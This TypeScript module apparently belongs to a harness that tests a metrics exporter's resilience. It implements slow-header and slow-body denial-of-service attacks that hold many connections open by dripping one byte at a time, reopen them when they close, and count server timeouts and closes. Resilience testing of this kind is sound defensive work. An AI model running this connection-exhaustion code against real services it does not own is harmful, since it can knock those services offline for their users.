import type { Socket } from "node:net";

import type { Attack, AttackOptions } from "./attack";
import { openRaw } from "./raw-connection";

const DRIP_INTERVAL_MS = 200;

const HEAD = "GET /metrics HTTP/1.1\r\nHost: exporter\r\nX-Slow: ";
const BODY =
  "POST /api/v1/heartbeats HTTP/1.1\r\nHost: exporter\r\nContent-Type: application/json\r\n" +
  "Content-Length: 1000000\r\n\r\n[";

/** Sends a request one byte at a time and never ends it; a new one as soon as the server has had enough. */
function sendSlowly(start: string) {
  return ({ port, connections }: AttackOptions): Attack => {
    const sockets = new Map<Socket, number>();
    const counts = {
      "connections opened": 0,
      "ended by the exporter": 0,
      "told 408": 0,
      "longest held, ms": 0,
    };
    let over = false;
    let arrived: () => void;
    const underWay = new Promise<void>((resolve) => (arrived = resolve));
    const open = (): void => {
      const socket = openRaw(port, {
        onOpen: () => {
          counts["connections opened"] += 1;
          sockets.set(socket, performance.now());
          socket.write(start);
          if (counts["connections opened"] === connections) arrived();
        },
        onData: (bytes) => {
          if (bytes.toString("latin1").startsWith("HTTP/1.1 408")) counts["told 408"] += 1;
        },
        onClose: (wasOpen) => {
          if (over) return;
          const heldMs = performance.now() - (sockets.get(socket) ?? performance.now());
          sockets.delete(socket);
          if (wasOpen) counts["ended by the exporter"] += 1;
          counts["longest held, ms"] = Math.max(counts["longest held, ms"], Math.round(heldMs));
          setTimeout(open, wasOpen ? 0 : DRIP_INTERVAL_MS);
        },
      });
    };
    for (let index = 0; index < connections; index += 1) open();
    const drip = setInterval(() => {
      for (const socket of sockets.keys()) socket.write("a");
    }, DRIP_INTERVAL_MS);
    return {
      underWay,
      stop: () => {
        over = true;
        clearInterval(drip);
        for (const socket of sockets.keys()) socket.destroy();
        return counts;
      },
    };
  };
}

/** Heads that never end. */
export const startSlowHeads = sendSlowly(HEAD);

/** Bodies that never end. */
export const startSlowBodies = sendSlowly(BODY);
